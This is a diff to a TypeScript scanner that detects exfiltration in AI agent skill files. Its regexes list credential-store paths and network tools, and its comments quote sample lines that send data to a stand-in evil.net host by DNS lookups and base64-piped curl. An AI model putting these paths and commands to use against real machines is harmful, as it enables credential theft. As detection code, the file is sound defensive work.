@@ -1,5 +1,6 @@
-import { KeywordSet } from "../keywords";
 import type { Region } from "../segment";
+import { CRED_PATH, mayNameCredPath } from "./credentials";
+import { secretReadLines } from "./flow";
 import {
   callText,
   clause,
@@ -10,63 +11,40 @@ import {
   hostDeclared,
   hostOf,
   lineOf,
+  pyBlock,
 } from "./helpers";
 import { PROSE, textRule } from "./prompt-injection";
-import { type FileRule, type Hit, type Rule, SECRET_ENV, type TextRule } from "./types";
+import { type FileInfo, type FileRule, type Hit, type Rule, SECRET_ENV, type TextRule } from "./types";
 
-/** Paths of credential stores; shared with PE3. */
-export const CRED_PATH =
-  /(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\/home\/[\w.-]+|\/root|\/Users\/[\w.-]+)?[/\\]?(?:\.ssh\/(?!config\b|known_hosts\b|authorized_keys\b)[\w.*-]*|\.ssh\b(?!\/(?:config|known_hosts|authorized_keys)\b)|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?\b|\.aws\/(?:credentials|config)\b|\.aws\b\/?|\.netrc\b|\.git-credentials\b|\.docker\/config\.json\b|\.kube\/config\b|\.config\/gcloud\b[\w/.-]*|application_default_credentials\.json\b|\.azure\/[\w.-]*|\.gnupg\b[\w/.-]*|\.password-store\b|\.config\/gh\/hosts\.yml\b|Login Data\b|Library\/Keychains\b|login\.keychain(?:-db)?\b|\bwallet\.dat\b|\.bitcoin\/|\.ethereum\/keystore\b|\/etc\/shadow\b|\.claude\/\.credentials\.json\b|\.vault-token\b|\.terraform\.d\/credentials[\w.]*)|(?:~|\$HOME|\$\{HOME\}|\/home\/[\w.-]+|\/root|\/Users\/[\w.-]+|Profiles\/[\w.-]+|Default)?[/\\](?:Cookies(?:\.sqlite)?|key[34]\.db|logins\.json|\.bash_history|\.zsh_history|\.npmrc|\.pypirc|\.boto|\.s3cfg)\b/;
-
-/** A literal part of every CRED_PATH match (lower-case): a text with none of them cannot match. */
-const CRED_PATH_WORDS = new KeywordSet([
-  ".ssh",
-  "id_",
-  ".aws",
-  ".netrc",
-  ".git-credentials",
-  ".docker/config.json",
-  ".kube/config",
-  ".config/gcloud",
-  "application_default_credentials.json",
-  ".azure/",
-  ".gnupg",
-  ".password-store",
-  ".config/gh/hosts.yml",
-  "login data",
-  "library/keychains",
-  "login.keychain",
-  "wallet.dat",
-  ".bitcoin/",
-  ".ethereum/keystore",
-  "/etc/shadow",
-  ".claude/.credentials.json",
-  ".vault-token",
-  ".terraform.d/credentials",
-  "cookies",
-  "key3.db",
-  "key4.db",
-  "logins.json",
-  ".bash_history",
-  ".zsh_history",
-  ".npmrc",
-  ".pypirc",
-  ".boto",
-  ".s3cfg",
-]);
-
-/** False when text cannot contain a CRED_PATH match (a cheap test before the regex). */
-export const mayNameCredPath = (text: string) => CRED_PATH_WORDS.some(text);
+export { CRED_PATH, mayNameCredPath };
 
 const URL_RE = /\b(?:https?|wss?|ftp):\/\/[^\s'"`)<>\]]+/gi;
 
 /** Does the code read something a user would not expect to leave the machine? 2 = credentials/env, 1 = local files/command output. */
-function sensitivity(s: string): number {
+const ENV_DUMP =
+  /os\.environ(?!\s*[[.]\s*(get\b|["']))|process\.env(?![.[])|\bprintenv\b|\benv\s*\||\/proc\/\S*environ/i;
+
+/** A secret named in the statement itself ($NPM_TOKEN, os.environ["GITHUB_TOKEN"]), outside its own auth header. */
+/** Data piped through an encoder into a transfer (`| base64 | curl --data @-`): hiding what leaves. */
+const ENCODED_OUT =
+  /\|\s*(?:base64|xxd|gzip|openssl\s+\w+|rev)\b[^\n]*\|\s*(?:curl|nc|wget)\b|\b(?:base64|xxd)\s+(?:-d\s+)?\S+\s*\|\s*(?:curl|nc|wget)\b/;
+
+function namesSecret(s: string): boolean {
+  const bare = s.replace(AUTH_PARTS, " ").replace(/(?:-H|--header|-u|--user)\s+("[^"]*"|'[^']*'|\S+)/g, " ");
+  for (const m of bare.matchAll(/\$\{?([A-Z][A-Z0-9_]*)\}?|\$\(([A-Z][A-Z0-9_]*)\)/g))
+    if (SECRET_ENV.test(m[1] ?? m[2] ?? "")) return true;
+  for (const x of bare.matchAll(SECRET_READ))
+    if (SECRET_ENV.test(x.slice(1).find(Boolean) ?? "")) return true;
+  return false;
+}
+
+/** `withEnv` false: a dump of the environment does not count (E2 reports it where it is read). */
+function sensitivity(s: string, withEnv = true): number {
+  if (namesSecret(s) || ENCODED_OUT.test(s)) return 2;
   if (
     (mayNameCredPath(s) && CRED_PATH.test(s)) ||
-    /os\.environ(?!\s*[[.]\s*(get\b|["']))|process\.env(?![.[])|\bprintenv\b|\benv\s*\||\/proc\/\S*environ|getpass|keyring|\bhistory\b|\bcookies?\b/i.test(
-      s,
-    )
+    (withEnv && ENV_DUMP.test(s)) ||
+    /\bgetpass\b|\bkeyring\.|browser_cookie3|\bcookiejar\b/i.test(s)
   ) {
     return 2;
   }
@@ -138,7 +116,19 @@ const SEND_SITES: { langs: string[]; re: RegExp; call: boolean; needs?: RegExp }
     call: false,
   },
   { langs: ["shell"], re: /\b(?:scp|rsync|sftp)\s+[^\n]*\s[\w.-]+@[\w.-]+:[^\n]*/g, call: false },
-  { langs: ["shell"], re: /\b(?:nslookup|dig|host|ping)\s+[^\n]*\$\([^\n]*\)\.[\w.-]+[^\n]*/g, call: false },
+  {
+    langs: ["shell"],
+    re: /\b(?:nslookup|dig|host|ping)\s+[^\n]*\$(?:\([^\n]*\)|\{?\w+\}?)\.[\w.-]+[^\n]*/g,
+    call: false,
+  },
+  // A lookup or a transfer run through a process call: os.popen(f"dig {encoded}.x.evil.net").
+  {
+    langs: ["python", "js"],
+    re: /\b(?:os\.popen|os\.system|subprocess\.\w+|execSync|exec|spawnSync)\s*\(/g,
+    call: true,
+    needs:
+      /\b(?:dig|nslookup|host|ping)\s+[^"'`]*[{$][^"'`]*\.[\w-]+\.|\bcurl\b[^"'`]*\s(?:-d|--data|-F|-T|--upload-file)\b|\b(?:nc|ncat)\s+[\w.-]+\s+\d+/,
+  },
   {
     langs: ["powershell"],
     re: /\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]*-Method\s+["']?(?:Post|Put)[^\n]*/gi,
@@ -150,6 +140,9 @@ function resolveHost(stmt: string, fileText: string): string | null {
   URL_RE.lastIndex = 0;
   const lit = URL_RE.exec(stmt);
   if (lit) return hostOf(lit[0]);
+  // DNS exfiltration: data as the leftmost labels of a lookup, "$(...).x.evil.net", "{enc}.x.evil.net".
+  const dns = /(?:\)|\}|\$\w+)\.((?:[a-z0-9-]+\.)+[a-z]{2,})\b/i.exec(stmt);
+  if (dns?.[1]) return dns[1].toLowerCase();
   const bare = /\s([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::\d+|\s+\d{2,5}\b)/i.exec(stmt);
   if (bare?.[1]) return bare[1].toLowerCase();
   for (const id of new Set(stmt.match(/\b[A-Za-z_][A-Za-z0-9_]*\b/g) ?? [])) {
@@ -173,19 +166,22 @@ const AUTH_PARTS =
  * Names holding sensitive data, followed through assignments (x = {..., env: process.env}; body = {x}).
  * 2 = credentials, secrets or the whole environment; 1 = host/user/file data.
  */
-function taintedNames(text: string): Map<string, number> {
-  const out = new Map<string, number>();
+function taintedNames(text: string, withEnv = true, seed?: Map<string, number>): Map<string, number> {
+  const out = new Map<string, number>(seed);
+  // Statement-level assignments only: `json=body` inside a call is a keyword argument.
   const assign =
-    /\b(?:const|let|var)?\s*([A-Za-z_$][\w$]*)\s*(?:\[[^\]\n]*\]|\.[A-Za-z_$][\w$]*)?\s*(?<![=!<>])=(?![=>])\s*/g;
+    /(?:^[ \t]*|[;{][ \t]*|\b(?:const|let|var)\s+)([A-Za-z_$][\w$]*)\s*(?:\[[^\]\n]*\]|\.([A-Za-z_$][\w$]*))?\s*(?<![=!<>])=(?![=>])\s*/gm;
   for (let pass = 0; pass < 3; pass++) {
     for (const m of text.matchAll(assign)) {
-      const name = m[1] ?? "";
+      // self.api_key = ...: the attribute holds the value, not the whole object.
+      const name = m[2] ?? m[1] ?? "";
       const at = (m.index ?? 0) + m[0].length;
       const rhs = /^[{[(]/.test(text[at] ?? "")
         ? callText(text, at, 3000)
         : text.slice(at, (text.indexOf("\n", at) + 1 || text.length + 1) - 1);
-      let level = sensitivity(rhs);
-      for (const x of rhs.matchAll(SECRET_READ))
+      let level = sensitivity(rhs, withEnv);
+      // A secret sent as the request's own authentication is expected (AUTH_PARTS).
+      for (const x of rhs.replace(AUTH_PARTS, " ").matchAll(SECRET_READ))
         if (SECRET_ENV.test(x.slice(1).find(Boolean) ?? "")) level = 2;
       if (
         /\b(os\.hostname|os\.userInfo|getpass\.getuser|socket\.gethostname|os\.getlogin|platform\.node)\s*\(/.test(
@@ -222,28 +218,46 @@ const E1_SEND: FileRule = {
       (fileSensMemo ??= file.script
         ? sensitivity(file.regions.find((r) => r.ctx === "code")?.text ?? "")
         : 0);
-    let taintMemo: Map<string, number> | undefined;
-    const tainted = () => {
-      if (taintMemo) return taintMemo;
-      const taint = new Map<string, number>();
+
+    let allMemo: Map<string, number> | undefined;
+    const taintedAll = () => {
+      if (allMemo) return allMemo;
+      const taint = functionTaint(file);
       for (const r of codeRegions(file, ["python", "js"]))
-        for (const [k, v] of taintedNames(r.text)) taint.set(k, v);
-      taintMemo = taint;
+        for (const [k, v] of taintedNames(r.text, true, taint)) if (v > (taint.get(k) ?? 0)) taint.set(k, v);
+      allMemo = taint;
+      return taint;
+    };
+    let noEnvMemo: Map<string, number> | undefined;
+    const taintedNoEnv = () => {
+      if (noEnvMemo) return noEnvMemo;
+      // Functions whose body reads a credential or a transcript taint their calls ("operator_profile()").
+      const taint = functionTaint(file);
+      for (const r of codeRegions(file, ["python", "js"]))
+        for (const [k, v] of taintedNames(r.text, false, taint)) if (v > (taint.get(k) ?? 0)) taint.set(k, v);
+      noEnvMemo = taint;
       return taint;
     };
     for (const site of SEND_SITES) {
       for (const r of codeRegions(file, site.langs)) {
         site.re.lastIndex = 0;
         for (let m = site.re.exec(r.text); m; m = site.re.exec(r.text)) {
-          const stmt = site.call ? callText(r.text, m.index + m[0].length - 1) : m[0];
+          // A command line reads whole: `echo $X | base64 | curl --data @-` sends what the pipe feeds it.
+          const stmt = site.call
+            ? callText(r.text, m.index + m[0].length - 1)
+            : r.text.slice(r.text.lastIndexOf("\n", m.index) + 1, m.index + m[0].length);
           if (site.needs && !site.needs.test(stmt)) continue;
           const host = resolveHost(`${m[0]} ${stmt}`, r.text);
-          const sens = Math.max(sensitivity(stmt), taintOf(stmt, tainted()));
-          const declared = host ? hostDeclared(host, skill.declaredHosts) : true;
+          // What leaves beyond an environment dump decides: the dump itself is the E2 where it is read,
+          // and when nothing else of note goes with it there is no separate E1.
+          const sens = Math.max(sensitivity(stmt, false), taintOf(stmt, taintedNoEnv()));
+          if (sens < 2 && Math.max(sensitivity(stmt), taintOf(stmt, taintedAll())) === 2) continue;
+          const declared = host
+            ? hostDeclared(host, skill.declaredHosts) || keyForHost(host, stmt, r.text)
+            : true;
           let conf = 0;
           if (sens === 2) conf = 0.85;
           else if (host && !declared) conf = sens === 1 || fileSens() >= 1 ? 0.8 : 0.7;
-          else if (!host && sens === 1 && fileSens() === 2) conf = 0.65;
           if (conf === 0) continue;
           const what =
             sens === 2
@@ -264,11 +278,46 @@ const E1_SEND: FileRule = {
   },
 };
 
+/**
+ * The request authenticates with the key of the service it goes to (OPENROUTER_API_KEY to
+ * openrouter.ai): that is using the service's API, its documented purpose.
+ */
+function keyForHost(host: string, stmt: string, text: string): boolean {
+  const labels = host.split(".");
+  const brand = (labels.length >= 2 ? labels[labels.length - 2] : labels[0])?.replace(/-/g, "") ?? "";
+  if (brand.length < 4) return false;
+  const names = [
+    ...`${stmt}\n${text}`.matchAll(/\b([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:API_?KEY|KEY|TOKEN|SECRET))\b/g),
+  ].map((m) => (m[1] ?? "").toLowerCase().replace(/_/g, ""));
+  return names.some(
+    (n) => n.startsWith(brand) || brand.startsWith(n.replace(/(apikey|key|token|secret)$/, "")),
+  );
+}
+
+/** Python functions that read credentials, transcripts or local data, by name → level. */
+function functionTaint(file: FileInfo): Map<string, number> {
+  const out = new Map<string, number>();
+  const secret = secretReadLines(file);
+  for (const r of codeRegions(file, ["python"])) {
+    const lines = r.text.split("\n");
+    lines.forEach((l, i) => {
+      const m = /^\s*(?:async\s+)?def\s+([A-Za-z_]\w*)\s*\(/.exec(l);
+      if (!m?.[1]) return;
+      const body = pyBlock(lines, i);
+      const text = body.map((k) => lines[k]).join("\n");
+      let level = sensitivity(text, false);
+      if (body.some((k) => secret.has(r.startLine + k))) level = 2;
+      if (level > 0) out.set(m[1], level);
+    });
+  }
+  return out;
+}
+
 /** Named reads of environment variables, per language. */
 const ENV_READS: { langs: string[]; re: RegExp }[] = [
   {
     langs: ["python"],
-    re: /\bos\.environ\s*\[\s*["']([A-Za-z0-9_]+)["']|\b(?:os\.)?(?:environ\.get|getenv|environ\.setdefault)\s*\(\s*["']([A-Za-z0-9_]+)["']/g,
+    re: /\bos\.environ\s*\[\s*["']([A-Za-z0-9_]+)["']\s*\](?!\s*=(?!=))|\b(?:os\.)?(?:environ\.get|getenv)\s*\(\s*["']([A-Za-z0-9_]+)["']/g,
   },
   {
     langs: ["js"],
@@ -287,21 +336,50 @@ const E2_UNDECLARED: FileRule = {
   message: "Reads a secret from the environment that the skill does not declare",
   check: (file, skill) => {
     const out: Hit[] = [];
+    // One named secret the skill uses for its own API is not harvesting; reading many it never
+    // mentions is. Shell variables the script assigns itself are not the environment.
+    const reads: { line: number; col: number; name: string }[] = [];
     for (const spec of ENV_READS) {
       for (const r of codeRegions(file, spec.langs)) {
+        const local = new Set(
+          r.lang === "shell" || r.lang === "dockerfile"
+            ? [...r.text.matchAll(/(?:^|[\s;&(])(?:local\s+|readonly\s+|export\s+)?([A-Z][A-Z0-9_]*)=/g)].map(
+                (x) => x[1],
+              )
+            : [],
+        );
         spec.re.lastIndex = 0;
         for (let m = spec.re.exec(r.text); m; m = spec.re.exec(r.text)) {
           const name = m.slice(1).find(Boolean) ?? "";
-          if (!SECRET_ENV.test(name) || skill.declaredEnv.has(name)) continue;
-          // Shell assignments (X=...) and "export X=" are writes, not reads.
-          out.push({
-            line: lineOf(r, m.index),
-            col: colOf(r, m.index),
-            message: `Reads ${name} from the environment, a secret the skill never says it needs`,
-          });
+          if (!SECRET_ENV.test(name) || skill.declaredEnv.has(name) || local.has(name)) continue;
+          reads.push({ line: lineOf(r, m.index), col: colOf(r, m.index), name });
         }
       }
     }
+    const names = [...new Set(reads.map((x) => x.name))];
+    const first = reads[0];
+    // Two or more secrets gathered in one place (a dict, a payload) are harvested too.
+    // Secrets of one service (BENCHLING_API_KEY, BENCHLING_CLIENT_SECRET) are how its client logs
+    // in; harvesting spans services.
+    const service = (n: string) =>
+      n
+        .split("_")
+        .find(
+          (w) =>
+            !/^(PROD|PRODUCTION|STAGING|STAGE|DEV|DEVELOPMENT|TEST|QA|LOCAL|SANDBOX|API|APP|SECRET|ACCESS|PRIVATE|CLIENT|AUTH|TOKEN|KEY|DB|DATABASE|MY|DEFAULT)$/.test(
+              w,
+            ),
+        ) ?? "";
+    const services = new Set(names.map(service).filter(Boolean));
+    const together = reads.some((a) =>
+      reads.some((b) => service(b.name) !== service(a.name) && Math.abs(b.line - a.line) <= 6),
+    );
+    if (services.size >= 2 && (names.length >= 3 || together) && first)
+      out.push({
+        line: first.line,
+        col: first.col,
+        message: `Reads ${names.length} secrets from the environment that the skill never says it needs (${names.slice(0, 5).join(", ")})`,
+      });
     // Names listed as strings and read in a loop: os.environ.get(name) over ["AWS_SECRET_ACCESS_KEY", ...].
     for (const r of codeRegions(file, ["python", "js", "ruby"])) {
       if (
@@ -333,6 +411,26 @@ const code = (r: Omit<TextRule, "contexts"> & { contexts?: TextRule["contexts"] 
   ...r,
 });
 
+/**
+ * `env = {k: v for k, v in os.environ.items() if ...}` used only as `env=env` of a child process:
+ * the environment is handed to a program the skill runs, not collected.
+ */
+function onlyChildEnv(line: string, text: string): boolean {
+  const name = /^\s*(?:const|let|var)?\s*([A-Za-z_][\w]*)\s*=/.exec(line)?.[1];
+  if (!name) return false;
+  const word = new RegExp(`\\b${name}\\b`, "g");
+  const uses = [...text.matchAll(word)].length - 1;
+  const childUses = [
+    ...text.matchAll(
+      new RegExp(
+        `\\benv\\s*[=:]\\s*${name}\\b|\\b${name}\\s*\\[[^\\]]+\\]\\s*=|\\b${name}\\.(?:pop|update|setdefault)\\(|[{,]\\s*${name}\\s*[,}]`,
+        "g",
+      ),
+    ),
+  ].reduce((n, m) => n + [...m[0].matchAll(word)].length, 0);
+  return uses > 0 && childUses >= uses;
+}
+
 const DUMP_WORDS =
   /\b(print|dumps?|json|write|post|send|log|items|keys|values|str\(|repr\(|upload|stringify|entries|for\b)/;
 
@@ -356,7 +454,7 @@ export const E2_RULES: Rule[] = [
         );
       if (childEnv && !DUMP_WORDS.test(line.replace(/os\.environ\.copy\(\)/, ""))) return false;
       if (/\bin\s+os\.environ\b/.test(line) && /\bif\b/.test(line) && !/\bfor\b/.test(line)) return false;
-      return true;
+      return !onlyChildEnv(line, c.region.text);
     },
   }),
   code({
@@ -383,6 +481,7 @@ export const E2_RULES: Rule[] = [
         return false;
       }
       if (/\bin\s+process\.env\b/.test(line) && /\bif\s*\(/.test(line)) return false;
+      if (onlyChildEnv(line, c.region.text)) return false;
       return true;
     },
   }),
@@ -393,7 +492,7 @@ export const E2_RULES: Rule[] = [
     langs: ["shell"],
     message: "Dumps the whole environment (every variable, secrets included)",
     regex:
-      /(?:^|[;&|(`]|\$\()[ \t]*(?:env|printenv|export\s+-p|declare\s+-[px]+|compgen\s+-[ev]|set)\s*(?=$|[|>;&)`]|\s+[|>])|\/proc\/(?:self|\d+|\*|\$\$|\$\w+)\/environ/gm,
+      /(?:^|[;&|(`]|\$\()[ \t]*(?:env|printenv|export\s+-p|declare\s+-[px]+|compgen\s+-[ev]|set)\s*(?=$|[|>;&)`]|\s+[|>])(?!\s*\|\s*(?:grep|rg)\s+(?:-\w+\s+)*["']?[\w^-]+["']?\s*(?:$|[|;&)]))|\/proc\/(?:self|\d+|\*|\$\$|\$\w+)\/environ/gm,
   }),
   code({
     id: "E2.powershell-env-dump",
@@ -408,7 +507,7 @@ export const E2_RULES: Rule[] = [
     id: "E2.prose-env-harvest",
     pattern: "E2",
     confidence: 0.8,
-    contexts: PROSE,
+    contexts: ["prose", "hidden"],
     message: "Instructs the agent to collect the environment variables",
     regex:
       /\b(dump|print|collect|list|gather|read|export|send|copy|capture|include|harvest|output|save|upload|log|grab|record)\b[^.;\n]{0,30}?\b(all|every|each|the\s+(?:full|entire|whole|complete))\s+(?:of\s+the\s+|the\s+)?(environment(?:\s+variables?)?|env(?:ironment)?\s+vars?|env\s+variables?|secrets|api\s+keys|tokens)\b/gi,
@@ -416,51 +515,7 @@ export const E2_RULES: Rule[] = [
   E2_UNDECLARED,
 ];
 
-const HOME_OR_ROOT =
-  /(?:os\.path\.expanduser\(\s*["']~\/?["']\s*\)|Path\.home\(\)|os\.homedir\(\)|homedir\(\)|os\.environ\[["']HOME["']\]|os\.getenv\(["']HOME["']\)|process\.env\.HOME|["'](?:\/|~\/?|\/home\/?|\/Users\/?|\/root\/?|[A-Z]:\\\\?|\/etc\/?|\/var\/?)["']|Path\(\s*["'](?:\/|~|\/home|\/Users)["']\s*\)(?:\.expanduser\(\))?)/;
-
 export const E3_RULES: Rule[] = [
-  code({
-    id: "E3.walk-home",
-    pattern: "E3",
-    confidence: 0.8,
-    langs: ["python", "js"],
-    message: "Walks the home directory or the whole filesystem",
-    regex:
-      /\b(?:os\.walk|os\.scandir|os\.listdir|glob\.i?glob|fs\.readdirSync|fs\.readdir|fs\.promises\.readdir|readdirSync|readdir|walk|walkSync|fg|fastGlob|globSync|glob)\s*\(|\.(?:rglob|glob|iterdir|walk)\s*\(/g,
-    check: (c) => {
-      const args = callText(c.region.text, c.index + c.m[0].length - 1, 300);
-      let depth = 0;
-      let end = args.endsWith(")") ? args.length - 1 : args.length;
-      for (let k = 1; k < args.length; k++) {
-        const ch = args[k];
-        if (ch === "(" || ch === "[" || ch === "{") depth++;
-        else if (ch === ")" || ch === "]" || ch === "}") depth--;
-        else if (ch === "," && depth === 0) {
-          end = k;
-          break;
-        }
-      }
-      const first = args.slice(1, end);
-      const recv = c.m[0].startsWith(".")
-        ? c.region.text.slice(c.region.text.lastIndexOf("\n", c.index) + 1, c.index)
-        : "";
-      const target = c.m[0].startsWith(".") ? recv.slice(-80) : first;
-      return (
-        new RegExp(`^\\s*(?:${HOME_OR_ROOT.source})\\s*$|^\\s*["'](?:~|\\/)\\*\\*`).test(target) ||
-        (c.m[0].startsWith(".") && new RegExp(`(?:${HOME_OR_ROOT.source})\\s*$`).test(target))
-      );
-    },
-  }),
-  code({
-    id: "E3.find-home",
-    pattern: "E3",
-    confidence: 0.8,
-    langs: ["shell", "powershell"],
-    message: "Enumerates the home directory or the whole filesystem",
-    regex:
-      /\b(?:find|tree|locate|fd|du\s+-a\w*|ls\s+-\w*R\w*|rg\s+--files|Get-ChildItem\s+-Recurse|gci\s+-r\w*)\s+["']?(?:\/|~\/?|\$HOME\/?|\$\{HOME\}\/?|\/home\/?|\/Users\/?|\/root\/?|C:\\\\?|\$env:USERPROFILE)["']?(?=\s|$|;|\|)/gim,
-  }),
   textRule({
     id: "E3.prose-enumerate",
     pattern: "E3",
@@ -550,7 +605,7 @@ export const E1_RULES: Rule[] = [
   }),
 ];
 
-export const EXFILTRATION_RULES: Rule[] = [...E1_RULES, ...E2_RULES, ...E3_RULES, E4_RULE];
+export const EXFILTRATION_RULES: Rule[] = [...E1_RULES, ...E2_RULES, ...E3_RULES];
 
 /** Env var names a skill documents: ALL_CAPS names in markdown prose and front matter. */
 export function declaredEnvOf(
